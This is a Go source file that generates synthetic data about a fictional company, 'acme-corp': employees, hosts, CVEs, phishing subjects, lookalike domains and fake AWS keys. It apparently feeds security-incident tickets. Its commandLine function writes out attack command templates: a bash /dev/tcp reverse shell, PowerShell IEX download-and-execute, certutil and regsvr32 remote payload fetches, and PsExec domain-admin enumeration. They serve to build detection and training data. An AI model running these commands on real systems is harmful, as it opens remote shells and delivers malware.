package synth

import (
	"encoding/base64"
	"encoding/hex"
	"math/rand/v2"
	"strconv"
	"strings"
)

// person is one employee of the fictional company.
type person struct {
	first, last string
	login       string // j.smith
	sam         string // jsmith
	upn         string // john.smith@acme-corp.com
	home        int    // index of the person's workstation in pools.hosts
	country     string // office country
}

// machine is one host of the fictional company.
type machine struct {
	name string // WS-FIN-0231, SRV-DC01
	ip   string // 10.x.y.z
	role string // server role ("DC", "SQL", ...) or "" for workstations
}

// pools holds the company's entities, drawn once per archive from its seed.
type pools struct {
	people   []person
	hosts    []machine
	servers  map[string][]int // role → host indexes
	roles    []string
	cves     []string
	software []string
	accounts []string // cloud accounts
}

var (
	firstNames = []string{"james", "mary", "john", "patricia", "robert", "jennifer", "michael", "linda", "david", "elizabeth",
		"william", "barbara", "richard", "susan", "joseph", "jessica", "thomas", "sarah", "charles", "karen", "daniel", "lisa",
		"matthew", "nancy", "anthony", "betty", "mark", "sandra", "paul", "ashley", "steven", "emily", "andrew", "donna",
		"kevin", "michelle", "brian", "carol", "george", "amanda", "edward", "melissa", "ronald", "deborah", "timothy",
		"stephanie", "jason", "rebecca", "jeffrey", "laura", "ryan", "helen", "jacob", "sharon", "gary", "cynthia", "nicholas",
		"kathleen", "eric", "amy", "jonathan", "angela", "larry", "anna", "justin", "ruth", "scott", "brenda", "frank", "pamela",
		"raj", "priya", "ahmed", "fatima", "lukas", "sophie", "mateo", "lucia", "chen", "yuki", "olga", "ivan", "aisha", "omar"}
	lastNames = []string{"smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez", "martinez",
		"hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin", "lee", "perez",
		"thompson", "white", "harris", "sanchez", "clark", "ramirez", "lewis", "robinson", "walker", "young", "allen", "king",
		"wright", "scott", "torres", "nguyen", "hill", "flores", "green", "adams", "nelson", "baker", "hall", "rivera", "campbell",
		"mitchell", "carter", "roberts", "gomez", "phillips", "evans", "turner", "diaz", "parker", "cruz", "edwards", "collins",
		"reyes", "stewart", "morris", "morales", "murphy", "cook", "rogers", "gutierrez", "ortiz", "morgan", "cooper", "peterson",
		"bailey", "reed", "kelly", "howard", "ramos", "kim", "cox", "ward", "richardson", "watson", "brooks", "chavez", "wood",
		"james", "bennett", "gray", "mendoza", "ruiz", "hughes", "price", "alvarez", "castillo", "sanders", "patel", "myers",
		"long", "ross", "foster", "jimenez", "mueller", "schmidt", "schneider", "fischer", "weber", "meyer", "wagner", "becker",
		"sharma", "singh", "kumar", "gupta", "khan", "ali", "wang", "zhang", "li", "liu", "tanaka", "sato", "ivanov", "novak",
		"kowalski", "dubois", "moreau", "rossi", "russo", "silva", "santos", "oliveira", "costa", "jensen", "nielsen", "larsen"}
	depts       = []string{"FIN", "HR", "ENG", "MKT", "SAL", "IT", "OPS", "LEG", "RND", "SUP"}
	serverRoles = []string{"DC", "SQL", "WEB", "APP", "FS", "EXCH", "JUMP", "BKP", "CTX", "PRN", "ERP", "K8S"}
	offices     = []string{"United States", "United States", "United States", "United Kingdom", "Germany", "India", "Netherlands"}
	countries   = []struct{ name, city string }{
		{"Spain", "Madrid"}, {"France", "Paris"}, {"Italy", "Milan"}, {"Brazil", "Sao Paulo"}, {"Mexico", "Mexico City"},
		{"Japan", "Tokyo"}, {"Singapore", "Singapore"}, {"Australia", "Sydney"}, {"Canada", "Toronto"}, {"Turkey", "Istanbul"},
		{"United Arab Emirates", "Dubai"}, {"South Africa", "Johannesburg"}, {"Poland", "Warsaw"}, {"Romania", "Bucharest"},
		{"Nigeria", "Lagos"}, {"Vietnam", "Hanoi"}, {"Thailand", "Bangkok"}, {"Argentina", "Buenos Aires"}, {"Portugal", "Lisbon"},
		{"Ireland", "Dublin"}, {"Sweden", "Stockholm"}, {"Switzerland", "Zurich"}, {"Israel", "Tel Aviv"}, {"Egypt", "Cairo"},
		{"Indonesia", "Jakarta"}, {"Philippines", "Manila"}, {"Colombia", "Bogota"}, {"Czech Republic", "Prague"},
		{"Ukraine", "Kyiv"}, {"South Korea", "Seoul"}, {"China", "Shanghai"}, {"Russia", "Moscow"}, {"Iran", "Tehran"},
		{"Kenya", "Nairobi"}, {"Greece", "Athens"}, {"Norway", "Oslo"}, {"Finland", "Helsinki"}, {"Chile", "Santiago"},
	}
	publicOctets = []int{23, 31, 37, 45, 46, 62, 77, 78, 79, 80, 81, 82, 85, 89, 91, 92, 93, 94, 95, 103, 104, 109, 141, 146,
		151, 176, 178, 185, 188, 193, 194, 195, 198, 203, 212, 213, 217}
	domainWords = []string{"secure", "login", "update", "cdn", "mail", "portal", "verify", "account", "office", "micros0ft",
		"docu-sign", "sharepnt", "files", "cloud", "sync", "auth", "support", "helpdesk", "invoice", "payroll", "track",
		"static", "api", "telemetry", "metrics", "onedrv", "service", "access", "id", "sso", "wallet", "pay", "shipping"}
	tlds           = []string{".com", ".net", ".info", ".top", ".xyz", ".online", ".site", ".live", ".click", ".ru", ".io"}
	personalClouds = []string{"dropbox.com", "wetransfer.com", "mega.nz", "drive.google.com", "gmail.com", "outlook.com",
		"box.com", "pcloud.com", "yahoo.com", "protonmail.com"}
	processes  = []string{"powershell.exe", "cmd.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "wscript.exe", "cscript.exe", "certutil.exe", "bitsadmin.exe", "svchost.exe", "procdump64.exe", "python.exe", "bash", "curl", "nc"}
	parents    = []string{"winword.exe", "excel.exe", "outlook.exe", "explorer.exe", "services.exe", "wmiprvse.exe", "cmd.exe", "powershell.exe", "sshd", "java.exe"}
	officeApps = []string{"winword.exe", "excel.exe", "outlook.exe", "powerpnt.exe", "onenote.exe"}
	fileStems  = []string{"invoice", "payroll", "customer_export", "Q3_forecast", "board_minutes", "salary_review", "contract", "passport_scan", "source_backup", "roadmap", "bank_details", "price_list", "employee_list", "merger_plan", "audit_report", "remittance", "shipping_notice", "resume"}
	fileExts   = []string{".xlsx", ".docx", ".pdf", ".zip", ".csv", ".docm", ".xlsm", ".iso", ".lnk", ".one", ".7z", ".js"}
	regions    = []string{"us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-1", "westeurope", "eastus", "northeurope", "europe-west1", "us-central1"}
	teams      = []string{"data", "web", "ml", "finance", "logs", "backup", "marketing", "analytics", "mobile", "partner"}
	purposes   = []string{"exports", "assets", "reports", "dumps", "uploads", "archive", "share", "static", "tmp", "snapshots"}
	envs       = []string{"prod", "dev", "staging", "test", "qa"}
	policies   = []string{"AdministratorAccess", "PowerUserAccess", "IAMFullAccess", "Owner", "Contributor", "User Access Administrator", "roles/owner", "roles/editor", "S3FullAccess", "SecurityAudit"}
	services   = []string{"UpdaterSvc", "WinSysHelper", "PSEXESVC", "BackupAgent", "SQLPatchSvc", "RemoteMgmt", "MaintSvc", "GoogleUpd", "AdobeARMsvc", "NvTelemetry"}
	tasks      = []string{"\\Microsoft\\Windows\\Update\\Refresh", "\\OneDriveSync", "\\PatchNightly", "\\Cleanup", "\\AdobeUpdate", "\\Maintenance\\Reboot", "\\SystemHealth", "\\ChromeUpdater", "\\BackupVerify"}
	subjects   = []string{"Action required: your password expires today", "Invoice overdue - final notice", "Shared document: bonus plan", "DocuSign: please review and sign", "Your mailbox is full", "Payment confirmation", "HR policy update - acknowledge", "Voicemail received", "Missed delivery attempt", "Security alert on your account", "Updated bank details", "Urgent: wire transfer needed", "Microsoft 365 license expired", "Salary adjustment letter"}
	devices    = []string{"SanDisk Ultra USB 3.0", "Kingston DataTraveler", "WD My Passport", "Samsung T7", "Seagate Expansion", "Generic USB Mass Storage", "iPhone (MTP)"}
	softwares  = []string{"Apache Log4j 2.14", "OpenSSL 1.1.1k", "Microsoft Exchange 2016 CU20", "Fortinet FortiOS 6.4", "Citrix ADC 13.0", "Atlassian Confluence 7.13", "VMware vCenter 6.7", "Windows Server 2012 R2", "Java 8u202", "Apache Tomcat 8.5", "MOVEit Transfer 2021", "Ivanti Connect Secure 22.3", "Oracle WebLogic 12.2", "PHP 7.2", "Python 2.7", "Windows 7 SP1"}
	sizeUnits  = []string{" MB", " GB"}
	tools      = []string{"nmap", "masscan", "nessus", "crackmapexec", "impacket", "bloodhound", "responder", "sqlmap"}
	scanPorts  = []string{"22", "23", "25", "80", "139", "443", "445", "1433", "3306", "3389", "5985", "8080", "8443", "9200"}
	highPorts  = []string{"443", "8443", "8080", "4444", "53", "80", "1194", "9001", "3333", "5555"}
	b64Letters = base64.StdEncoding
)

const companyDomain = "@acme-corp.com"

// newPools draws people, hosts and other catalogues, scaled to the archive size.
func newPools(r *rand.Rand, tickets int) *pools {
	p := &pools{servers: map[string][]int{}}
	nPeople := clamp(tickets/8, 150, 60000)
	seen := make(map[string]int, nPeople)
	ipSeen := make(map[string]bool, nPeople*2)
	newIP := func(site int) string {
		for {
			ip := "10." + strconv.Itoa(site) + "." + strconv.Itoa(r.IntN(250)+1) + "." + strconv.Itoa(r.IntN(250)+2)
			if !ipSeen[ip] {
				ipSeen[ip] = true
				return ip
			}
		}
	}
	for range nPeople {
		f, l := firstNames[r.IntN(len(firstNames))], lastNames[r.IntN(len(lastNames))]
		login := f[:1] + "." + l
		seen[login]++
		if n := seen[login]; n > 1 {
			login += strconv.Itoa(n)
		}
		sam := strings.ReplaceAll(login, ".", "")
		upn := f + "." + l
		if n := seen[f[:1]+"."+l]; n > 1 {
			upn += strconv.Itoa(n)
		}
		dept := depts[r.IntN(len(depts))]
		prefix := "WS-"
		if r.IntN(3) == 0 {
			prefix = "LT-"
		}
		h := machine{name: prefix + dept + "-" + pad(r.IntN(10000), 4), ip: newIP(10 + r.IntN(30))}
		p.hosts = append(p.hosts, h)
		p.people = append(p.people, person{first: f, last: l, login: login, sam: sam, upn: upn + companyDomain,
			home: len(p.hosts) - 1, country: offices[r.IntN(len(offices))]})
	}
	perRole := clamp(tickets/2000, 4, 60)
	for _, role := range serverRoles {
		n := 2 + r.IntN(perRole)
		for i := 1; i <= n; i++ {
			p.hosts = append(p.hosts, machine{name: "SRV-" + role + pad(i, 2), ip: newIP(200 + r.IntN(20)), role: role})
			p.servers[role] = append(p.servers[role], len(p.hosts)-1)
		}
		p.roles = append(p.roles, role)
	}
	for range 120 {
		p.cves = append(p.cves, "CVE-"+strconv.Itoa(2019+r.IntN(6))+"-"+strconv.Itoa(1000+r.IntN(48000)))
	}
	p.software = softwares
	for range clamp(tickets/2000, 6, 80) {
		p.accounts = append(p.accounts, pad(r.IntN(1_000_000_000_000), 12))
	}
	return p
}

func clamp(v, lo, hi int) int { return max(lo, min(v, hi)) }

// pad writes n with at least w digits.
func pad(n, w int) string {
	s := strconv.Itoa(n)
	if len(s) >= w {
		return s
	}
	return strings.Repeat("0", w-len(s)) + s
}

func oneOf[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

func externalIP(r *rand.Rand) string {
	b := make([]byte, 0, 15)
	b = strconv.AppendInt(b, int64(oneOf(r, publicOctets)), 10)
	for range 3 {
		b = append(b, '.')
		b = strconv.AppendInt(b, int64(r.IntN(254)+1), 10)
	}
	return string(b)
}

func randomDomain(r *rand.Rand) string {
	a, b := oneOf(r, domainWords), oneOf(r, domainWords)
	s := a + "-" + b
	if r.IntN(3) == 0 {
		s += strconv.Itoa(r.IntN(99))
	}
	return s + oneOf(r, tlds)
}

func sha256Hex(r *rand.Rand) string {
	var buf [32]byte
	for i := 0; i < 32; i += 8 {
		u := r.Uint64()
		for j := range 8 {
			buf[i+j] = byte(u >> (8 * j))
		}
	}
	return hex.EncodeToString(buf[:])
}

func randomB64(r *rand.Rand, n int) string {
	buf := make([]byte, n)
	for i := range buf {
		buf[i] = byte(r.Uint32())
	}
	return b64Letters.EncodeToString(buf)
}

func randomFile(r *rand.Rand) string {
	s := oneOf(r, fileStems)
	if r.IntN(2) == 0 {
		s += "_" + strconv.Itoa(r.IntN(900)+100)
	}
	return s + oneOf(r, fileExts)
}

func randomBucket(r *rand.Rand) string {
	return "acme-" + oneOf(r, teams) + "-" + oneOf(r, purposes) + "-" + oneOf(r, envs)
}

func randomSize(r *rand.Rand) string {
	return strconv.Itoa(r.IntN(900)+20) + "." + strconv.Itoa(r.IntN(10)) + oneOf(r, sizeUnits)
}

func randomKey(r *rand.Rand) string {
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	b := []byte("AKIA")
	for range 16 {
		b = append(b, letters[r.IntN(len(letters))])
	}
	return string(b)
}

// commandLine invents a command line fitting the technique.
func commandLine(r *rand.Rand, t *technique, p *pools, host string) string {
	switch t.name {
	case "Encoded PowerShell Command":
		return "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + randomB64(r, 30+r.IntN(30))
	case "New Service Created":
		return "C:\\Windows\\Temp\\" + oneOf(r, services) + ".exe"
	case "Remote Execution via PsExec":
		return "psexec.exe \\\\" + host + " -s cmd.exe /c " + oneOf(r, []string{"whoami", "ipconfig /all", "net group \"domain admins\" /domain", "C:\\temp\\run.bat"})
	case "Remote Execution via WMI":
		return "cmd.exe /q /c " + oneOf(r, []string{"cd 1> \\\\127.0.0.1\\ADMIN$\\__" + strconv.Itoa(r.IntN(1e9)), "tasklist", "powershell -nop -c Get-Process"})
	case "Suspicious Scheduled Task":
		return "C:\\Users\\Public\\" + oneOf(r, []string{"update.ps1", "sync.vbs", "helper.exe", "clean.bat"})
	case "Reverse Shell":
		return "bash -i >& /dev/tcp/" + externalIP(r) + "/" + oneOf(r, highPorts) + " 0>&1"
	case "Registry Run Key Persistence":
		return "C:\\Users\\" + oneOf(r, p.people).sam + "\\AppData\\Roaming\\" + oneOf(r, services) + ".exe"
	}
	return oneOf(r, processes) + " " + oneOf(r, []string{"/c start /b", "-nop -w hidden -c IEX(New-Object Net.WebClient)", "-urlcache -split -f http://" + randomDomain(r) + "/a.exe", "/s /n /u /i:http://" + randomDomain(r) + "/x.sct scrobj.dll", "C:\\ProgramData\\" + randomFile(r)})
}
